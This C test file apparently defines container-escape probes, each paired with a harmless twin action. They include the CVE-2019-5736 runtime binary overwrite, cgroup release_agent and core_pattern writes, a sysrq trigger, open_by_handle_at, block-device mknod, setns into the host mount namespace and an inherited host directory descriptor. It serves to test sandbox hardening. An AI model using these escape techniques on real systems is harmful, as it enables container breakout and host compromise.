/* SPDX-License-Identifier: Apache-2.0 */
/* Out of the container. */
#include "tests/attacks/range/action.h"

#include <sched.h>
#include <sys/sysmacros.h>

/*
 * CVE-2019-5736: the runner tells on standard input which process has entered the container, waits
 * until that is held open, and lets it end, so that its program can be written.
 */
static int runtime_exe_attack(char **args)
{
	char line[32] = "", path[64];
	int fd;

	say("waiting");
	if (!fgets(line, sizeof(line), stdin))
		return EPIPE;
	snprintf(path, sizeof(path), "/proc/%d/exe", atoi(line));
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return errno;
	say("held");
	if (!fgets(line, sizeof(line), stdin))
		return EPIPE;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return write_file(path, 0, "owned\n");
}

static int runtime_exe_twin(char **args)
{
	char path[64];
	int fd = open(DATA "/log", O_RDWR | O_CREAT, 0644);

	if (fd < 0)
		return errno;
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	return write_file(path, 0, "one line\n");
}

static int release_agent(char **args)
{
	if (unshare(CLONE_NEWNS) < 0)
		return errno;
	if (mount("none", "/mnt", "cgroup", 0, "none,name=range") < 0)
		return errno;
	return write_file("/mnt/release_agent", 0, "/owned");
}

/* Descriptor 3 is a directory of the host's that whoever started the container left open. */
static int inherited(char **args)
{
	int fd = openat(3, "secret", O_RDONLY);

	return fd < 0 ? errno : show_fd(fd);
}

static int inherited_twin(char **args)
{
	int dir = open(DATA, O_RDONLY | O_DIRECTORY), fd;

	if (dir < 0)
		return errno;
	fd = openat(dir, "hello", O_RDONLY);
	return fd < 0 ? errno : show_fd(fd);
}

static int core_pattern(char **args)
{
	return write_file("/proc/sys/kernel/core_pattern", 0, "|/owned");
}

/* Only what lists the keys. */
static int sysrq(char **args)
{
	return write_file("/proc/sysrq-trigger", 0, "h");
}

/* args[0]: the handle, in hexadecimal: its type, then its bytes. */
static int by_handle(char **args)
{
	union {
		struct file_handle h;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = { 0 };
	unsigned byte;
	int fd, dir = open(DATA, O_RDONLY | O_DIRECTORY);

	if (dir < 0)
		return errno;
	u.h.handle_bytes = (unsigned)strlen(args[0] + 2) / 2;
	sscanf(args[0], "%2x", &byte);
	u.h.handle_type = (int)byte;
	for (unsigned i = 0; i < u.h.handle_bytes; i++) {
		sscanf(args[0] + 2 + 2 * i, "%2x", &byte);
		u.h.f_handle[i] = (unsigned char)byte;
	}
	fd = open_by_handle_at(dir, &u.h, O_RDONLY);
	return fd < 0 ? errno : show_fd(fd);
}

static int block_device(char **args)
{
	if (mknod(DATA "/disk", S_IFBLK | 0600, makedev(7, 0)) < 0)
		return errno;
	return show_file(DATA "/disk");
}

static int host_mounts(char **args)
{
	int fd = open("/proc/1/ns/mnt", O_RDONLY);

	if (fd < 0 || setns(fd, CLONE_NEWNS) < 0)
		return errno;
	return show_file("/srv/range/host/secret");
}

const struct action escape_actions[] = {
	{ "runtime-exe", runtime_exe_attack, runtime_exe_twin },
	{ "release-agent", release_agent, write_own },
	{ "inherited-directory", inherited, inherited_twin },
	{ "core-pattern", core_pattern, write_own },
	{ "sysrq", sysrq, write_own },
	{ "open-by-handle", by_handle, read_own },
	{ "block-device", block_device, read_own },
	{ "host-mounts", host_mounts, read_own },
	{ 0 },
};
